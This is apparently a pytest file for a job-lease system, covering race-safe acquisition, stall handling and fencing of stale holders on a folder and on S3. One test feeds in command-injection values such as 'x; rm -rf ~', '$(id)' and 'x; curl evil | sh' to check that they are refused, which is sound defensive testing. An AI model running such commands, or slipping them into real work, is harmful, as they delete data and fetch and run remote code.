"""The storage lease is mutual exclusion (issue 36), on a folder and on s3:// (a moto server).

Many jobs racing for it (threads, and processes), for a new lease and for a stale one, repeated:
exactly one wins every time. A holder whose storage stalls stops itself before another job may
take over; a stale holder's late state save is refused (fencing), in its driver and in a stage
process it started. The stop hint is built from a checked job id only.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from pipeline.cluster import durable, lease
from pipeline.cluster.lease import Lease, LeaseLostError, read_lease
from pipeline.cluster.storage_fs import Store
from pipeline.errors import UserError

sys.path.insert(0, str(Path(__file__).parent))
from moto_s3 import endpoint_fixture, folder_or_bucket, s3_env

ROOT = Path(__file__).resolve().parents[1]
BUCKET = "ddpm-lease"
A, B = "raysubmit_A", "raysubmit_B"
TAKERS = 8  # threads racing in one round
ROUNDS = 4


def wait_until(condition, what: str, timeout: float = 60) -> None:
    """Poll ``condition`` until it is true; fail after ``timeout`` seconds (no fixed sleep)."""
    deadline = time.monotonic() + timeout
    while not condition():
        assert time.monotonic() < deadline, f"timed out waiting for {what}"
        time.sleep(0.02)


endpoint = endpoint_fixture(BUCKET, atomic_puts=True)


@pytest.fixture(params=["folder", "s3"])
def store(request, tmp_path, monkeypatch):
    return folder_or_bucket(request, tmp_path, monkeypatch, BUCKET)


def plant(store: Store, scale: str, generation: int, record: dict) -> None:
    """A lease record written as its holder would have."""
    store.write_text(lease.lease_dir(scale) / lease.record_name(generation), json.dumps(record))


def race(store: Store, scale: str, jobs: list[str]) -> list[str]:
    """Every job of ``jobs`` takes the lease at once (one thread each): the winners."""
    barrier = threading.Barrier(len(jobs))
    won: list[str] = []

    def take(job: str) -> None:
        taker = Lease(store, scale, job=job, timeout=60)
        barrier.wait()
        try:
            taker.acquire()
        except UserError:
            return
        won.append(job)

    threads = [threading.Thread(target=take, args=(job,)) for job in jobs]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return won


def test_exactly_one_of_many_threads_takes_the_lease(store):
    for round_ in range(ROUNDS):
        scale = f"r{round_}"
        stale = round_ % 2 == 1  # odd rounds: they race to take over a dead job's lease
        if stale:
            plant(store, scale, 1, {"job": "raysubmit_dead", "host": "gone", "heartbeat": 0})
        won = race(store, scale, [f"raysubmit_{round_}_{i}" for i in range(TAKERS)])
        assert len(won) == 1, f"round {round_}: {won}"
        held = read_lease(store, scale)
        assert held.job == won[0] and held.generation == 1 + stale


def test_exactly_one_of_many_processes_takes_the_lease(store, tmp_path):
    script = (
        "import sys\n"
        "from pipeline.cluster.lease import Lease\n"
        "from pipeline.cluster.storage_fs import Store\n"
        "from pipeline.errors import UserError\n"
        "store = Store.parse(sys.argv[1])\n"
        "store.exists('warm-up')\n"
        "print('ready', flush=True)\n"
        "for line in sys.stdin:\n"
        "    try:\n"
        "        Lease(store, line.strip(), job=sys.argv[2], timeout=60).acquire()\n"
        "        print('won', flush=True)\n"
        "    except UserError:\n"
        "        print('refused', flush=True)\n"
    )
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    procs = [
        subprocess.Popen(
            [sys.executable, "-c", script, store.url, f"raysubmit_p{i}"],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            text=True,
            env=env,
            cwd=tmp_path,
        )
        for i in range(4)
    ]
    try:
        assert [p.stdout.readline().strip() for p in procs] == ["ready"] * len(procs)
        for round_ in range(ROUNDS):
            scale = f"p{round_}"
            if round_ % 2:
                plant(store, scale, 1, {"job": "raysubmit_dead", "host": "gone", "heartbeat": 0})
            for p in procs:
                p.stdin.write(scale + "\n")
            for p in procs:
                p.stdin.flush()
            answers = [p.stdout.readline().strip() for p in procs]
            assert sorted(answers) == ["refused"] * (len(procs) - 1) + ["won"], answers
            winner = f"raysubmit_p{answers.index('won')}"
            assert read_lease(store, scale).job == winner
    finally:
        for p in procs:
            p.stdin.close()
            p.wait(30)


class Stalling:
    """A store whose calls hang while :meth:`stall` is in force (a hung mount, an endpoint that
    stopped answering), until :meth:`resume`."""

    def __init__(self, store: Store):
        self.store, self._go = store, threading.Event()
        self._go.set()

    def stall(self) -> None:
        self._go.clear()

    def resume(self) -> None:
        self._go.set()

    def __getattr__(self, name: str):
        attr = getattr(self.store, name)
        if not callable(attr):
            return attr

        def call(*args, **kwargs):
            self._go.wait()
            return attr(*args, **kwargs)

        return call


def test_a_holder_whose_storage_stalls_stops_before_another_can_take_over(store):
    T = 4.0  # renewed every 0.5 s; the holder stops 2 s after its last renewal
    stopped: list[tuple[float, str]] = []
    stalling = Stalling(store)
    holder = Lease(
        stalling, "tiny", job=A, timeout=T, on_lost=lambda why: stopped.append((time.time(), why))
    )
    holder.acquire()
    holder.start_heartbeat()
    first = holder.record["started"]
    wait_until(lambda: read_lease(store, "tiny").record["heartbeat"] > first, "a renewal")
    stalling.stall()
    wait_until(lambda: stopped, "the holder stopping itself")
    last = read_lease(store, "tiny").record["heartbeat"]  # its last renewal that reached storage
    # it stopped before a taker may consider it dead (the heartbeat older than the timeout)
    assert stopped[0][0] < last + T, (stopped, last)
    assert "not renewed" in stopped[0][1] and len(stopped) == 1
    with pytest.raises(LeaseLostError, match="not renewed"):
        holder.check()  # no save from now on, without asking the stalled storage
    with pytest.raises(UserError, match=A):  # not stale yet: nobody else may take it
        Lease(store, "tiny", job=B, timeout=T).acquire()
    wait_until(lambda: read_lease(store, "tiny").age() >= T, "the lease gone stale")
    taker = Lease(store, "tiny", job=B, timeout=T)
    taker.acquire()
    stalling.resume()  # the stalled calls go through now: they do not touch the taker's record
    holder.release()
    held = read_lease(store, "tiny")
    assert held.job == B and held.generation == 2 and not held.record["released"]
    assert len(stopped) == 1


def test_a_stale_holders_late_save_is_refused(store, tmp_path, monkeypatch):
    T = 2.0
    project = tmp_path / "project"
    (project / "metrics").mkdir(parents=True)
    (project / "dvc.lock").write_text("schema: '2.0'\n")
    (project / "metrics" / "m.json").write_text("{}")
    state = Path("state") / "tiny"
    stale = Lease(store, "tiny", job=A, timeout=T, on_lost=lambda why: None)
    stale.acquire()  # and then no heartbeat: its storage stalled, or it hung
    monkeypatch.setitem(lease._HELD, (store.url, "tiny"), stale)
    assert durable.save_state(project, store, state) > 0  # still its lease: saved
    wait_until(lambda: read_lease(store, "tiny").age() >= T, "the lease gone stale")
    Lease(store, "tiny", job=B, timeout=T).acquire()
    (project / "metrics" / "late.json").write_text("{}")
    (project / "dvc.lock").write_text("schema: '2.0'\nlate: true\n")
    with pytest.raises(LeaseLostError):
        durable.save_state(project, store, state)
    assert not store.exists(state / "metrics" / "late.json")
    assert "late" not in store.read_text(state / "dvc.lock")
    # a stage process of the stale job finds its generation in the environment: refused too
    monkeypatch.delitem(lease._HELD, (store.url, "tiny"))
    held = {"store": store.url, "scale": "tiny", "generation": 1, "timeout": T}
    monkeypatch.setenv(lease.HELD_ENV, json.dumps(held))
    with pytest.raises(LeaseLostError, match="job raysubmit_B took over"):
        durable.save_state(project, store, state)
    assert not store.exists(state / "metrics" / "late.json")
    monkeypatch.setenv(lease.HELD_ENV, json.dumps({**held, "generation": 2}))
    durable.save_state(project, store, state)  # the new holder's stage: saved
    assert store.exists(state / "metrics" / "late.json")


def test_the_stop_hint_is_built_from_a_checked_job_id(store, monkeypatch):
    assert lease.stop_hint("raysubmit_x1") == "ray job stop raysubmit_x1"
    assert lease.stop_hint("head-1.ec2:4242") == "kill 4242 on host head-1.ec2"
    for bad in ("x; rm -rf ~", "$(id)", "a b", "", None, 7, "x" * 200):
        assert lease.stop_hint(bad) is None
    monkeypatch.setenv(lease.RAY_JOB_ENV, json.dumps({"metadata": {"job_submission_id": "j`id`"}}))
    with pytest.raises(UserError, match="not a plain name") as refused:
        lease.this_job()
    assert "\n" not in str(refused.value)
    # a record with a command planted in its job id: refused without showing it as a command
    plant(store, "tiny", 1, {"job": "x; curl evil | sh", "host": "h", "heartbeat": time.time()})
    with pytest.raises(UserError) as held:
        Lease(store, "tiny", job=B, timeout=60).acquire()
    assert "curl" not in str(held.value) and "`" not in str(held.value)


def test_a_lease_file_of_the_earlier_format_is_respected_then_replaced(tmp_path):
    store = Store.parse(str(tmp_path / "shared"))
    old = {"job": A, "host": "other-host", "pid": 1, "heartbeat": time.time()}
    store.write_text("state/tiny/lease", json.dumps(old))
    with pytest.raises(UserError, match=A):  # its holder is live: refused as before
        Lease(store, "tiny", job=B, timeout=60).acquire()
    store.write_text("state/tiny/lease", json.dumps({**old, "heartbeat": 0}))  # it died
    Lease(store, "tiny", job=B, timeout=60).acquire()
    assert read_lease(store, "tiny").job == B


def test_a_stale_holders_training_uploads_are_refused(endpoint, tmp_path, monkeypatch):
    """The training wing's own uploads to a bucket run (the driver's run records, and the
    evaluations during training through the same fence) stop once the lease is another's."""
    from repo_copy import PARAMS

    from pipeline.cluster import storage
    from pipeline.config import load_config
    from pipeline.training import trainer

    for key, value in s3_env(endpoint).items():
        monkeypatch.setenv(key, value)
    url = f"s3://{BUCKET}/train-{time.time_ns()}"
    monkeypatch.setenv(storage.ENV, url)
    store, cfg, T = Store.parse(url), load_config(PARAMS, "tiny"), 2.0
    run_dir = tmp_path / storage.MIRROR / "runs" / "v"
    run_dir.mkdir(parents=True)
    (run_dir / trainer.IDENTITY_RECORD).write_text("{}")
    stale = Lease(store, "tiny", job=A, timeout=T, on_lost=lambda why: None)
    stale.acquire()
    monkeypatch.setitem(lease._HELD, (store.url, "tiny"), stale)
    trainer._push_records(cfg, tmp_path, run_dir)  # still its lease: uploaded
    assert store.exists(Path("runs/v") / trainer.IDENTITY_RECORD)
    (run_dir / trainer.IDENTITY_RECORD).write_text('{"late": true}')
    wait_until(lambda: read_lease(store, "tiny").age() >= T, "the lease gone stale")
    Lease(store, "tiny", job=B, timeout=T).acquire()
    with pytest.raises(LeaseLostError):
        trainer._push_records(cfg, tmp_path, run_dir)
    assert "late" not in store.read_text(Path("runs/v") / trainer.IDENTITY_RECORD)
